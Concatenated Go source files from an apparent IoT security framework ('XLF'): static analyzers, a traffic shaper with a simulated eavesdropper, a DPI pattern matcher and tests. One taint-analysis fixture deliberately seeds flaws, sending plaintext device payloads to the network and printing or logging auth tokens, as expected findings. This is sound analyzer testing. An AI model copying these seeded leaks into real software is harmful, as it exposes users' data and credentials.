		fd, ok := decl.(*ast.FuncDecl)
		if !ok || fd.Body == nil {
			continue
		}
		ast.Inspect(fd.Body, func(n ast.Node) bool {
			// Composite-literal keys name the field, they do not access it.
			if kv, ok := n.(*ast.KeyValueExpr); ok {
				if _, isIdent := kv.Key.(*ast.Ident); isIdent {
					ast.Inspect(kv.Value, func(x ast.Node) bool {
						a.plainIdent(pkg, fd, x, pt, report)
						return true
					})
					return false
				}
			}
			a.plainIdent(pkg, fd, n, pt, report)
			return true
		})
	}
}

func (a *AtomicMix) plainIdent(pkg *Package, fd *ast.FuncDecl, n ast.Node, pt *pkgTypes, report func(token.Pos, string, ...any)) {
	id, ok := n.(*ast.Ident)
	if !ok || a.atomicArgs[id] {
		return
	}
	obj := pt.info.Uses[id]
	if obj == nil {
		return
	}
	site, guarded := a.atomicUses[obj]
	if !guarded {
		return
	}
	report(id.Pos(),
		"%s is accessed with sync/atomic in %s (%s) but plainly here in %s; every access must go through sync/atomic (or an atomic.Uint64-style wrapper)",
		id.Name, site.fn, site.loc, fd.Name.Name)
}

// checkValueCopies flags WaitGroup-by-value signatures and assignments
// that copy a WaitGroup or lock holder.
func (a *AtomicMix) checkValueCopies(pkg *Package, file *File, pt *pkgTypes, report func(token.Pos, string, ...any)) {
	wgHolders := syncValueHolders(pkg, "WaitGroup")
	mtxHolders := lockHolders(pkg)
	syncName, hasSync := importName(file.AST, "sync")

	isWaitGroupExpr := func(expr ast.Expr) bool {
		if hasSync {
			if sel, ok := expr.(*ast.SelectorExpr); ok {
				if id, ok := sel.X.(*ast.Ident); ok && id.Name == syncName && sel.Sel.Name == "WaitGroup" {
					return true
				}
			}
		}
		if id, ok := expr.(*ast.Ident); ok {
			return wgHolders[id.Name]
		}
		return false
	}

	for _, decl := range file.AST.Decls {
		fd, ok := decl.(*ast.FuncDecl)
		if !ok {
			continue
		}
		name := fd.Name.Name
		if fd.Recv != nil {
			for _, f := range fd.Recv.List {
				if isWaitGroupExpr(f.Type) {
					report(f.Type.Pos(),
						"method %s has a value receiver holding a sync.WaitGroup; the copy's counter diverges — use a pointer receiver", name)
				}
			}
		}
		checkList := func(fl *ast.FieldList, what string) {
			if fl == nil {
				return
			}
			for _, f := range fl.List {
				if isWaitGroupExpr(f.Type) {
					report(f.Type.Pos(),
						"%s of %s copies a sync.WaitGroup by value; Wait on the copy never sees Add on the original — pass a pointer", what, name)
				}
			}
		}
		checkList(fd.Type.Params, "parameter")
		checkList(fd.Type.Results, "result")

		if fd.Body == nil {
			continue
		}
		// Assignment copies: x := y (or x = y) where y is a plain
		// variable/field/deref of a WaitGroup, sync lock or holder type.
		ast.Inspect(fd.Body, func(n ast.Node) bool {
			asg, ok := n.(*ast.AssignStmt)
			if !ok || len(asg.Lhs) != len(asg.Rhs) {
				return true
			}
			for i, rhs := range asg.Rhs {
				// A blank-identifier discard copies nothing anyone reads.
				if lhs, ok := asg.Lhs[i].(*ast.Ident); ok && lhs.Name == "_" {
					continue
				}
				if !copyableRef(rhs) {
					continue
				}
				desc := copiedSyncValue(pt, rhs, wgHolders, mtxHolders)
				if desc == "" {
					continue
				}
				report(asg.Rhs[i].Pos(),
					"assignment copies %s by value; the copy synchronises nothing — take a pointer", desc)
			}
			return true
		})
	}
}

// copyableRef reports whether the expression reads an existing value
// (identifier, field, deref, index) rather than constructing a new one.
func copyableRef(e ast.Expr) bool {
	switch e := e.(type) {
	case *ast.Ident:
		return e.Name != "nil"
	case *ast.SelectorExpr, *ast.IndexExpr:
		return true
	case *ast.StarExpr:
		return true
	case *ast.ParenExpr:
		return copyableRef(e.X)
	}
	return false
}

// copiedSyncValue classifies the type of a copied expression: a
// sync.WaitGroup, a sync lock, or a holder struct of either. Returns a
// description for the diagnostic, or "".
func copiedSyncValue(pt *pkgTypes, e ast.Expr, wgHolders, mtxHolders map[string]bool) string {
	if pt == nil {
		return ""
	}
	tv, ok := pt.info.Types[e]
	if !ok || tv.Type == nil {
		return ""
	}
	named, ok := tv.Type.(*types.Named)
	if !ok {
		return ""
	}
	obj := named.Obj()
	if obj.Pkg() != nil && obj.Pkg().Path() == "sync" {
		switch obj.Name() {
		case "WaitGroup":
			return "a sync.WaitGroup"
		case "Mutex", "RWMutex":
			return "a sync." + obj.Name()
		}
		return ""
	}
	if wgHolders[obj.Name()] {
		return "struct " + obj.Name() + " (holds a sync.WaitGroup)"
	}
	if mtxHolders[obj.Name()] {
		return "struct " + obj.Name() + " (holds a sync lock)"
	}
	return ""
}

// syncValueHolders resolves struct type names holding a value field of
// sync.<typeName> (or of another holder), to a fixpoint — the WaitGroup
// analogue of lockcheck's lockHolders.
func syncValueHolders(pkg *Package, typeName string) map[string]bool {
	type structDecl struct {
		name     string
		fields   *ast.FieldList
		syncName string
	}
	var structs []structDecl
	for _, f := range pkg.Files {
		syncName, hasSync := importName(f.AST, "sync")
		if !hasSync {
			syncName = "sync"
		}
		ast.Inspect(f.AST, func(n ast.Node) bool {
			ts, ok := n.(*ast.TypeSpec)
			if !ok {
				return true
			}
			st, ok := ts.Type.(*ast.StructType)
			if !ok {
				return true
			}
			structs = append(structs, structDecl{ts.Name.Name, st.Fields, syncName})
			return true
		})
	}
	isTarget := func(expr ast.Expr, syncName string) bool {
		sel, ok := expr.(*ast.SelectorExpr)
		if !ok {
			return false
		}
		recv, ok := sel.X.(*ast.Ident)
		return ok && recv.Name == syncName && sel.Sel.Name == typeName
	}
	holders := make(map[string]bool)
	for changed := true; changed; {
		changed = false
		for _, s := range structs {
			if holders[s.name] || s.fields == nil {
				continue
			}
			for _, field := range s.fields.List {
				if isTarget(field.Type, s.syncName) {
					holders[s.name] = true
					changed = true
					break
				}
				if id, ok := field.Type.(*ast.Ident); ok && holders[id.Name] {
					holders[s.name] = true
					changed = true
					break
				}
			}
		}
	}
	return holders
}

var _ ModuleAnalyzer = (*AtomicMix)(nil)
