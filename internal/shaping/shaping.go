// Package shaping implements XLF's network traffic shaping (§IV-B1) and
// the passive adversary it defends against. The shaper, deployed on the
// gateway, inserts random delays, pads packet sizes, and injects dummy
// cover traffic; the adversary implements the three-step inference of
// Apthorpe et al. (separate flows behind the NAT, associate DNS queries to
// identify devices, read send/receive rates to infer user activity) plus
// HoMonit-style event spotting. The E2 experiment sweeps shaping levels
// and reports adversary confidence versus bandwidth overhead.
package shaping

import (
	"time"

	"xlf/internal/netsim"
	"xlf/internal/obs"
	"xlf/internal/sim"
)

// Mode selects the shaping strategy (ablated in E2).
type Mode int

// Shaping modes.
const (
	ModeOff Mode = iota
	ModeDelay
	ModePad
	ModeCombined
)

func (m Mode) String() string {
	switch m {
	case ModeOff:
		return "off"
	case ModeDelay:
		return "delay"
	case ModePad:
		return "pad"
	case ModeCombined:
		return "delay+pad+dummies"
	default:
		return "unknown"
	}
}

// Config parametrises the shaper.
type Config struct {
	Mode Mode
	// MaxDelay bounds the uniform random delay added per packet
	// (ModeDelay).
	MaxDelay time.Duration
	// PadBucket rounds packet sizes up to a multiple of this (0 disables).
	PadBucket int
	// Interval is the constant emission cadence of ModeCombined
	// (rate equalisation): every Interval the shaper emits exactly one
	// cell — the oldest queued real packet, or a dummy when the queue is
	// empty — so the WAN rate is flat and user activity produces no
	// observable spike (Apthorpe et al.'s stochastic traffic padding,
	// simplified to constant-rate link padding).
	Interval time.Duration
	// DummySize is the size of injected dummies (defaults to PadBucket).
	DummySize int
	// IdleBudget bounds how many consecutive dummy cells are sent with an
	// empty queue before the cover stream pauses (bounds overhead; 0 =
	// unbounded cover traffic).
	IdleBudget int
}

// Level returns a canonical config for a shaping intensity in [0,1]:
// level 0 is off; higher levels add delay, coarser padding and more cover
// traffic. Used by the E2 sweep.
func Level(intensity float64) Config {
	switch {
	case intensity <= 0:
		return Config{Mode: ModeOff}
	case intensity < 0.34:
		return Config{Mode: ModeDelay, MaxDelay: time.Duration(200*intensity*3) * time.Millisecond}
	case intensity < 0.67:
		return Config{Mode: ModePad, PadBucket: 256 + int(768*(intensity-0.34)/0.33)}
	default:
		// Faster cadence (more cover traffic) as intensity grows.
		iv := time.Duration(600-450*(intensity-0.67)/0.33) * time.Millisecond
		return Config{
			Mode:      ModeCombined,
			Interval:  iv,
			PadBucket: 1024,
			DummySize: 1024,
		}
	}
}

// Stats accounts shaping overhead.
type Stats struct {
	RealPackets  int
	RealBytes    int
	PaddedBytes  int // extra bytes added by padding
	DummyPackets int
	DummyBytes   int
	TotalDelay   time.Duration
}

// OverheadFraction is (padding + dummy bytes) / real bytes.
func (s Stats) OverheadFraction() float64 {
	if s.RealBytes == 0 {
		return 0
	}
	return float64(s.PaddedBytes+s.DummyBytes) / float64(s.RealBytes)
}

// MeanDelay is the average added latency per real packet.
func (s Stats) MeanDelay() time.Duration {
	if s.RealPackets == 0 {
		return 0
	}
	return s.TotalDelay / time.Duration(s.RealPackets)
}

// queued is a real packet waiting in the equalisation queue.
type queued struct {
	pkt *netsim.Packet
	at  time.Duration
}

// Shaper transforms outbound packets on the gateway.
type Shaper struct {
	kernel *sim.Kernel
	cfg    Config
	stats  Stats
	tracer *obs.Tracer

	// Rate-equalisation state (ModeCombined).
	queue    []queued
	lastPkt  *netsim.Packet // template for dummies
	lastSend func(*netsim.Packet)
	ticker   *sim.Ticker
	idleRun  int
}

// New creates a shaper bound to the simulation kernel (all randomness is
// drawn from the kernel for reproducibility).
func New(kernel *sim.Kernel, cfg Config) *Shaper {
	if cfg.DummySize == 0 {
		cfg.DummySize = cfg.PadBucket
	}
	return &Shaper{kernel: kernel, cfg: cfg}
}

// Stats returns accumulated overhead accounting.
func (s *Shaper) Stats() Stats { return s.stats }

// SetTracer attaches an observability tracer; shaped packets and dummy
// cells then emit shaping-layer spans. Nil disables emission.
func (s *Shaper) SetTracer(t *obs.Tracer) { s.tracer = t }

// traceShape emits one shaping-layer span for a per-packet decision.
func (s *Shaper) traceShape(op string, pkt *netsim.Packet, cause string) {
	if s.tracer == nil {
		return
	}
	dev := ""
	if pkt.Src.IsLAN() {
		dev = string(pkt.Src[4:])
	}
	s.tracer.EmitAt(s.kernel.Now(), obs.LayerShaping, op, dev, cause)
}

// GatewayHook returns the function to install as Gateway.Shaper.
func (s *Shaper) GatewayHook() func(pkt *netsim.Packet, send func(*netsim.Packet)) {
	return func(pkt *netsim.Packet, send func(*netsim.Packet)) {
		s.stats.RealPackets++
		s.stats.RealBytes += pkt.Size
		s.traceShape("shape", pkt, s.cfg.Mode.String())

		switch s.cfg.Mode {
		case ModeOff:
			send(pkt)

		case ModeDelay:
			d := time.Duration(s.kernel.Rand().Int63n(int64(s.cfg.MaxDelay)))
			s.stats.TotalDelay += d
			s.kernel.Schedule(d, "shaper-delay", func() { send(pkt) })

		case ModePad:
			s.pad(pkt)
			send(pkt)

		case ModeCombined:
			// Fragment into fixed-size cells: every cell on the wire —
			// real, continuation, or dummy — is exactly PadBucket bytes,
			// so cell size carries zero information. A size mismatch here
			// (e.g. padding large packets to 2x the cell) is a real
			// leak: bursts would show as elevated per-bin byte counts.
			cell := s.cfg.PadBucket
			if cell <= 0 {
				cell = 1024
			}
			nCells := (pkt.Size + cell - 1) / cell
			if nCells < 1 {
				nCells = 1
			}
			s.stats.PaddedBytes += nCells*cell - pkt.Size
			now := s.kernel.Now()
			for i := 0; i < nCells; i++ {
				c := pkt
				if i > 0 {
					c = pkt.Clone()
					c.App = ""
					c.Payload = nil
				}
				c.Size = cell
				s.queue = append(s.queue, queued{pkt: c, at: now})
			}
			s.lastPkt = pkt
			s.lastSend = send
			s.idleRun = 0
			if s.ticker == nil {
				s.ticker = s.kernel.Every(s.cfg.Interval, 0, "shaper-cell", s.emitCell)
			}
		}
	}
}

// pad rounds the on-wire size up to the bucket.
func (s *Shaper) pad(pkt *netsim.Packet) {
	if s.cfg.PadBucket <= 0 {
		return
	}
	padded := ((pkt.Size + s.cfg.PadBucket - 1) / s.cfg.PadBucket) * s.cfg.PadBucket
	s.stats.PaddedBytes += padded - pkt.Size
	pkt.Size = padded
}

// emitCell fires every Interval: one real packet if queued, else a dummy.
// A constant cell stream makes activity bursts unobservable: the queue
// absorbs them and drains at the same flat rate the idle dummies maintain.
func (s *Shaper) emitCell() {
	if len(s.queue) > 0 {
		q := s.queue[0]
		s.queue = s.queue[1:]
		s.stats.TotalDelay += s.kernel.Now() - q.at
		s.lastSend(q.pkt)
		s.idleRun = 0
		return
	}
	if s.cfg.IdleBudget > 0 && s.idleRun >= s.cfg.IdleBudget {
		return // cover stream paused; next real packet resumes it
	}
	s.idleRun++
	dummy := s.lastPkt.Clone()
	dummy.Size = s.cfg.DummySize
	dummy.Dummy = true
	dummy.App = ""
	dummy.Payload = nil
	s.stats.DummyPackets++
	s.stats.DummyBytes += dummy.Size
	s.traceShape("dummy", dummy, "cover")
	s.lastSend(dummy)
}
