package analysis

// DetFlow is the interprocedural half of the determinism contract. The
// determinism rule flags a wall-clock read or a global math/rand draw
// written directly inside a deterministic package; DetFlow closes the
// loophole it leaves open: a helper in any *other* package that reads
// the clock, reached from simulation code through any depth of calls.
// The call-graph engine supplies reachability — every function's
// summary records one witness primitive it may reach — and this rule
// reports at the *boundary*: the call site inside a deterministic
// package whose callee lives outside the set and carries a non-empty
// summary. Primitives called directly stay the determinism rule's
// report (no duplicates), and callees inside the set are reported in
// their own package.
//
// Waiver semantics follow the existing //xlf:allow-wallclock marker at
// both ends of a chain: a waived primitive site produces no fact at
// all (the sanctioned measurement code in internal/exp stays invisible
// to every caller), and the marker on a boundary call site (or in the
// calling function's doc comment) waives that root individually.
//
// Bare references (f := time.Now, handing the real clock around as a
// value) are reported too: a reference inside a deterministic package
// is a determinism leak the moment anything invokes it.

import (
	"go/token"
	"sort"
	"strings"
)

// DetFlow reports reachability of nondeterministic primitives from the
// deterministic package set.
type DetFlow struct {
	// Packages is the deterministic set (exact paths or "prefix/..."),
	// shared with the determinism rule.
	Packages []string

	graph    *CallGraph
	prepared bool
	// facts maps funcKey → at most one primitive description the
	// function reaches ("wall-clock read time.Now", ...).
	facts map[string][]string
	// direct holds the per-function direct facts, kept so Chain can
	// identify the fact-bearing endpoint of a witness path.
	direct map[string][]string
}

// NewDetFlow builds the analyzer on a shared call graph (nil builds a
// private one).
func NewDetFlow(packages []string, g *CallGraph) *DetFlow {
	if g == nil {
		g = NewCallGraph()
	}
	return &DetFlow{Packages: packages, graph: g}
}

// Name implements Analyzer.
func (d *DetFlow) Name() string { return "detflow" }

// Doc implements Documented.
func (d *DetFlow) Doc() string {
	return "deterministic packages must not reach wall-clock or global-rand primitives through any depth of helpers"
}

// applies reports whether the deterministic set covers importPath,
// with the same exact/"prefix/..." matching as the determinism rule.
func (d *DetFlow) applies(importPath string) bool {
	return matchPackages(d.Packages, importPath)
}

// primitiveDesc classifies a callee key as a nondeterministic
// primitive, returning a diagnostic description or "".
func primitiveDesc(key string) string {
	pkg, recv, name := splitKey(key)
	if recv != "" {
		return "" // methods on seeded *rand.Rand values are fine
	}
	switch pkg {
	case "time":
		if name == "Now" || name == "Since" {
			return "wall-clock read time." + name
		}
	case "math/rand", "math/rand/v2":
		if !randConstructors[name] {
			return "global math/rand." + name
		}
	}
	return ""
}

// followDetFlow accepts every precisely-resolved edge: plain, deferred
// and spawned calls, calls inside closures (capturing a clock read is
// already a hazard) and bare references. Fallback-resolved edges are
// excluded — a unique-method-name guess must not manufacture a
// determinism violation.
func followDetFlow(e CallEdge) bool { return !e.Fallback }

// Prepare implements ModuleAnalyzer: build the graph, collect direct
// primitive facts (skipping waived lines), and run the fixpoint.
func (d *DetFlow) Prepare(pkgs []*Package) {
	if d.prepared {
		return
	}
	d.prepared = true
	d.graph.Build(pkgs)

	d.direct = make(map[string][]string)
	allowed := make(map[*File]map[int]bool)
	for _, key := range d.graph.Keys() {
		fn := d.graph.Func(key)
		for _, e := range fn.Edges {
			desc := primitiveDesc(e.Callee)
			if desc == "" {
				continue
			}
			if allowed[fn.File] == nil {
				allowed[fn.File] = allowedLines(fn.Pkg.Fset, fn.File.AST, AllowWallclockMarker)
			}
			if allowed[fn.File][fn.Pkg.Fset.Position(e.Pos).Line] {
				continue
			}
			d.direct[key] = append(d.direct[key], desc)
		}
	}
	for key, facts := range d.direct {
		d.direct[key] = dedupSorted(facts)
	}
	d.facts = d.graph.Fixpoint(d.direct, followDetFlow, 1)
}

// Check implements Analyzer: report boundary call sites and primitive
// references inside deterministic packages.
func (d *DetFlow) Check(pkg *Package) []Finding {
	if !d.prepared {
		d.Prepare([]*Package{pkg})
	}
	if !d.applies(pkg.ImportPath) {
		return nil
	}
	allowed := make(map[*File]map[int]bool)
	var out []Finding
	for _, key := range d.graph.Keys() {
		fn := d.graph.Func(key)
		if fn.Pkg != pkg || fn.File.Test {
			continue
		}
		if allowed[fn.File] == nil {
			allowed[fn.File] = allowedLines(pkg.Fset, fn.File.AST, AllowWallclockMarker)
		}
		waived := allowed[fn.File]
		reported := make(map[token.Pos]bool)
		for _, e := range fn.Edges {
			if e.Fallback || reported[e.Pos] || waived[pkg.Fset.Position(e.Pos).Line] {
				continue
			}
			if desc := primitiveDesc(e.Callee); desc != "" {
				// Direct calls are the determinism rule's report; a bare
				// reference is this rule's.
				if e.Kind == EdgeRef {
					reported[e.Pos] = true
					out = append(out, pkg.finding(d.Name(), e.Pos,
						"reference to %s in deterministic package %s; inject a clock/seeded generator (or annotate //%s)",
						desc, pkg.ImportPath, AllowWallclockMarker))
				}
				continue
			}
			if d.applies(keyPkg(e.Callee)) {
				continue // reported inside the callee's own package
			}
			facts := d.facts[e.Callee]
			if len(facts) == 0 {
				continue
			}
			reported[e.Pos] = true
			out = append(out, pkg.finding(d.Name(), e.Pos,
				"call to %s reaches %s (%s) from deterministic package %s; inject a clock/seeded generator (or annotate //%s)",
				FuncDisplay(e.Callee), facts[0], d.witness(e.Callee), pkg.ImportPath, AllowWallclockMarker))
		}
	}
	return out
}

// witness renders the call chain from the boundary callee to the
// fact-bearing function for the diagnostic.
func (d *DetFlow) witness(from string) string {
	chain := d.graph.Chain(from, func(k string) bool { return len(d.direct[k]) > 0 }, followDetFlow)
	if chain == nil {
		return "via " + FuncDisplay(from)
	}
	return "via " + displayChain(chain)
}

// keyPkg returns the package component of a summary key.
func keyPkg(key string) string {
	pkg, _, _ := splitKey(key)
	return pkg
}

// matchPackages reports whether set covers importPath (exact entries or
// "prefix/..." patterns), shared by the package-scoped rules.
func matchPackages(set []string, importPath string) bool {
	for _, p := range set {
		if prefix, ok := strings.CutSuffix(p, "/..."); ok {
			if importPath == prefix || strings.HasPrefix(importPath, prefix+"/") {
				return true
			}
		} else if importPath == p {
			return true
		}
	}
	return false
}

// dedupSorted sorts and deduplicates a fact list in place.
func dedupSorted(facts []string) []string {
	if len(facts) < 2 {
		return facts
	}
	sort.Strings(facts)
	out := facts[:1]
	for _, f := range facts[1:] {
		if f != out[len(out)-1] {
			out = append(out, f)
		}
	}
	return out
}

var (
	_ ModuleAnalyzer = (*DetFlow)(nil)
	_ Documented     = (*DetFlow)(nil)
)
