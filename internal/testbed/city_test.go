package testbed

import (
	"testing"
	"time"
)

func TestCityRunsAndCounts(t *testing.T) {
	c, err := NewCity(CityConfig{Seed: 7, Devices: 2000, ReportEvery: 5 * time.Second, Horizon: 30 * time.Second})
	if err != nil {
		t.Fatal(err)
	}
	st, err := c.Run()
	if err != nil {
		t.Fatal(err)
	}
	if st.Devices != 2000 || st.Districts < 1 {
		t.Fatalf("shape: %+v", st)
	}
	// 30s horizon / 5s period: every sensor reports ~6 times.
	if st.Sent < 5*2000 {
		t.Errorf("sent = %d, want >= %d", st.Sent, 5*2000)
	}
	if st.Dropped != 0 {
		t.Errorf("dropped = %d, want 0 (lossless links, attached sinks)", st.Dropped)
	}
	// Everything sent more than a delivery delay before the horizon arrives.
	if st.Delivered < st.Sent-2000 {
		t.Errorf("delivered = %d of %d sent", st.Delivered, st.Sent)
	}
	if st.Now != 30*time.Second {
		t.Errorf("Now = %s, want 30s", st.Now)
	}
}

func TestCityDeterministic(t *testing.T) {
	run := func() CityStats {
		c, err := NewCity(CityConfig{Seed: 11, Devices: 3000, Horizon: 25 * time.Second})
		if err != nil {
			t.Fatal(err)
		}
		st, err := c.Run()
		if err != nil {
			t.Fatal(err)
		}
		return st
	}
	a, b := run(), run()
	if a != b {
		t.Fatalf("same seed diverges:\n%+v\n%+v", a, b)
	}
}
