package main

import (
	"fmt"

	"xlf/internal/exp"
)

func main() { fmt.Println(exp.E9Stability(1)) }
