// Package dpi implements XLF's network traffic monitoring (§IV-B2):
// signature rules in the style of Alhanahnah et al.'s cross-architecture
// IoT malware signatures, an Aho-Corasick multi-pattern matcher for
// cleartext payloads, and a BlindBox-style searchable-encryption path that
// lets the gateway match the same rules over encrypted traffic without
// breaking end-to-end security.
package dpi

// Aho-Corasick automaton over byte patterns. Built once per rule set,
// matched in O(len(payload) + matches).
type acNode struct {
	next map[byte]int32
	fail int32
	// out lists pattern indices terminating at this node.
	out []int32
}

// Matcher is an immutable multi-pattern matcher.
type Matcher struct {
	nodes    []acNode
	patterns [][]byte
}

// NewMatcher compiles patterns into an Aho-Corasick automaton. Empty
// patterns are ignored.
func NewMatcher(patterns [][]byte) *Matcher {
	m := &Matcher{nodes: []acNode{{next: make(map[byte]int32)}}}
	for _, p := range patterns {
		if len(p) == 0 {
			continue
		}
		m.patterns = append(m.patterns, append([]byte(nil), p...))
	}
	for i, p := range m.patterns {
		m.insert(p, int32(i))
	}
	m.buildFailLinks()
	return m
}

func (m *Matcher) insert(p []byte, idx int32) {
	cur := int32(0)
	for _, b := range p {
		nxt, ok := m.nodes[cur].next[b]
		if !ok {
			m.nodes = append(m.nodes, acNode{next: make(map[byte]int32)})
			nxt = int32(len(m.nodes) - 1)
			m.nodes[cur].next[b] = nxt
		}
		cur = nxt
	}
	m.nodes[cur].out = append(m.nodes[cur].out, idx)
}

func (m *Matcher) buildFailLinks() {
	// BFS from the root; root's children fail to root.
	queue := make([]int32, 0, len(m.nodes))
	for _, c := range m.nodes[0].next {
		m.nodes[c].fail = 0
		queue = append(queue, c)
	}
	for len(queue) > 0 {
		u := queue[0]
		queue = queue[1:]
		for b, v := range m.nodes[u].next {
			queue = append(queue, v)
			f := m.nodes[u].fail
			for f != 0 {
				if nxt, ok := m.nodes[f].next[b]; ok {
					f = nxt
					goto found
				}
				f = m.nodes[f].fail
			}
			if nxt, ok := m.nodes[0].next[b]; ok && nxt != v {
				f = nxt
			} else {
				f = 0
			}
		found:
			m.nodes[v].fail = f
			m.nodes[v].out = append(m.nodes[v].out, m.nodes[f].out...)
		}
	}
}

// Match is one pattern occurrence.
type Match struct {
	// Pattern is the index into the compiled pattern list.
	Pattern int
	// End is the byte offset just past the occurrence.
	End int
}

// FindAll returns every pattern occurrence in data.
func (m *Matcher) FindAll(data []byte) []Match {
	var out []Match
	cur := int32(0)
	for i, b := range data {
		for {
			if nxt, ok := m.nodes[cur].next[b]; ok {
				cur = nxt
				break
			}
			if cur == 0 {
				break
			}
			cur = m.nodes[cur].fail
		}
		for _, pi := range m.nodes[cur].out {
			out = append(out, Match{Pattern: int(pi), End: i + 1})
		}
	}
	return out
}

// Contains reports whether any pattern occurs in data (early exit).
func (m *Matcher) Contains(data []byte) bool {
	cur := int32(0)
	for _, b := range data {
		for {
			if nxt, ok := m.nodes[cur].next[b]; ok {
				cur = nxt
				break
			}
			if cur == 0 {
				break
			}
			cur = m.nodes[cur].fail
		}
		if len(m.nodes[cur].out) > 0 {
			return true
		}
	}
	return false
}

// PatternCount returns the number of compiled patterns.
func (m *Matcher) PatternCount() int { return len(m.patterns) }
