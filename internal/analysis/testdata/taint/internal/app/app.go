// Package app seeds one violation (and one clean counterpart) for every
// flow shape the taint engine must handle: direct, sanitized, through a
// helper (interprocedural summary in both directions), via a struct
// field write, and waived.
package app

import (
	"fmt"

	"example.com/m/internal/channel"
	"example.com/m/internal/device"
	"example.com/m/internal/metrics"
	"example.com/m/internal/netsim"
	"example.com/m/internal/xauth"
)

// LeakDirect sends an unencrypted device payload straight to the
// network layer.
func LeakDirect(n *netsim.Network) {
	p := device.NewPayload("bulb-1", "keepalive", "")
	n.Send(&netsim.Packet{Payload: p}) // want "plaintextescape.* reaches sink .*Send"
}

// SealedOK is the sanctioned path: the payload passes through Seal.
func SealedOK(n *netsim.Network, s *channel.Session) {
	p := device.NewPayload("bulb-1", "keepalive", "")
	ct, err := s.Seal(p)
	if err != nil {
		return
	}
	n.Send(&netsim.Packet{Payload: ct})
}

// emit forwards bytes to a send sink; its summary records that the
// parameter reaches the sink.
func emit(n *netsim.Network, b []byte) {
	n.Send(&netsim.Packet{Payload: b})
}

// LeakViaHelper reaches the sink one call deep.
func LeakViaHelper(n *netsim.Network) {
	emit(n, device.NewPayload("cam-1", "event", "motion")) // want "plaintextescape.* reaches sink .*Send via .*emit"
}

// build wraps the payload constructor; its summary records that the
// result carries source taint.
func build(id string) []byte {
	return device.NewPayload(id, "keepalive", "")
}

// LeakViaConstructorHelper gets its taint one call away from the source.
func LeakViaConstructorHelper(g *netsim.Gateway, n *netsim.Network) {
	pkt := &netsim.Packet{}
	pkt.Payload = build("oven-1")
	g.SendOut(n, pkt) // want "plaintextescape.* reaches sink .*SendOut"
}

// Waived documents a reviewed exception.
func Waived(n *netsim.Network) {
	p := device.NewPayload("dbg-1", "debug", "")
	n.Send(&netsim.Packet{Payload: p}) //xlf:allow-taint fixture: reviewed debug tap
}

// BadError wraps raw token material into an error value.
func BadError(s *xauth.Signer) error {
	t := s.Issue("alice")
	return fmt.Errorf("rejected token %v", t) // want "secretleak.* reaches sink fmt.Errorf"
}

// GoodError logs the redacted form.
func GoodError(s *xauth.Signer) error {
	t := s.Issue("alice")
	return fmt.Errorf("rejected %s", xauth.Redact(t))
}

// BadLabel writes an encoded token into a metrics row.
func BadLabel(tb *metrics.Table, s *xauth.Signer) {
	tb.AddRow("user", xauth.Encode(s.Issue("bob"))) // want "secretleak.* reaches sink .*AddRow"
}

// BadDecodeLog prints a token recovered from the wire.
func BadDecodeLog(raw string) {
	t, err := xauth.Decode(raw)
	if err != nil {
		return
	}
	fmt.Println("got", t) // want "secretleak.* reaches sink fmt.Println"
}

// WaivedDump documents a reviewed token dump.
func WaivedDump(s *xauth.Signer) {
	fmt.Println(s.Issue("carol")) //xlf:allow-taint fixture: test-vector dump
}
