package obs

import "math/bits"

// Quantile estimation from power-of-two histogram buckets.
//
// The estimator mirrors internal/metrics.Latencies.Quantile (the R-7 /
// NumPy-linear definition): for a sorted sample of n observations the
// q-quantile sits at rank pos = q*(n-1). With bucketed counts the exact
// rank is known but the value within its bucket is not, so the estimate
// interpolates linearly across the bucket's value range. Because bucket
// i spans [2^(i-1), 2^i - 1] (bucket 0 holds exactly zero), the estimate
// is always within a factor of 2 of the true sample value — i.e. the
// relative error is bounded by 2x for values >= 1 and is exact for zero.
// That bound is what makes p50/p95/p99 from the Registry's histograms
// honest enough to gate SLOs on.

// Quantile estimates the q-quantile of the observed distribution from
// the power-of-two buckets. q <= 0 (or NaN) returns the minimum bucket
// estimate, q >= 1 the maximum; an empty histogram returns 0. Nil-safe.
func (h *Histogram) Quantile(q float64) uint64 {
	if h == nil {
		return 0
	}
	var counts [histBuckets]uint64
	total := uint64(0)
	for i := 0; i < histBuckets; i++ {
		counts[i] = h.buckets[i].Load()
		total += counts[i]
	}
	return quantileFromCounts(&counts, total, q)
}

// QuantileBuckets estimates the q-quantile from a sparse HistBucket
// snapshot (as produced by Histogram.Buckets or a Snapshot), using the
// same semantics as Histogram.Quantile. This is the offline half: the
// xlf-trace metrics renderer works from serialized snapshots.
func QuantileBuckets(buckets []HistBucket, q float64) uint64 {
	var counts [histBuckets]uint64
	total := uint64(0)
	for _, b := range buckets {
		// Recover the bucket index from its upper bound: bucket 0 has
		// Le 0, bucket i>0 has Le = 2^i - 1, so i = bits.Len64(Le).
		i := bits.Len64(b.Le)
		if i >= histBuckets {
			i = histBuckets - 1
		}
		counts[i] += b.Count
		total += b.Count
	}
	return quantileFromCounts(&counts, total, q)
}

// quantileFromCounts locates the bucket holding rank q*(total-1) and
// interpolates within it. counts is the dense per-bucket array; total is
// its sum (passed in because callers already have it).
func quantileFromCounts(counts *[histBuckets]uint64, total uint64, q float64) uint64 {
	if total == 0 {
		return 0
	}
	// R-7 rank: q <= 0 or NaN clamps to the first sample, q >= 1 to the
	// last. pos is a 0-based fractional rank; bucketed counts cannot
	// interpolate between adjacent samples, so the integer rank selects
	// the bucket and the fraction rides along inside it.
	pos := 0.0
	if q > 0 {
		if q >= 1 {
			pos = float64(total - 1)
		} else {
			pos = q * float64(total-1)
		}
	}
	rank := uint64(pos)
	if rank >= total {
		rank = total - 1
	}
	cum := uint64(0)
	for i := 0; i < histBuckets; i++ {
		c := counts[i]
		if c == 0 {
			continue
		}
		if rank < cum+c {
			lo, hi := bucketBounds(i)
			if hi == lo {
				return lo
			}
			// Spread the bucket's c samples evenly over [lo, hi] and
			// take the midpoint of the rank's sub-interval.
			p := pos - float64(cum)
			if p < 0 {
				p = 0
			}
			if p > float64(c-1) {
				p = float64(c - 1)
			}
			est := float64(lo) + (float64(hi)-float64(lo))*((p+0.5)/float64(c))
			v := uint64(est)
			if v < lo {
				v = lo
			}
			if v > hi {
				v = hi
			}
			return v
		}
		cum += c
	}
	// Unreachable when total matches counts; fall back to the max bound.
	_, hi := bucketBounds(histBuckets - 1)
	return hi
}

// bucketBounds returns the inclusive value range of bucket i: bucket 0
// holds exactly zero, bucket i>0 holds [2^(i-1), 2^i - 1] (the values v
// with bits.Len64(v) == i). Bucket 64's upper bound saturates at the
// maximum uint64.
func bucketBounds(i int) (lo, hi uint64) {
	if i == 0 {
		return 0, 0
	}
	lo = uint64(1) << uint(i-1)
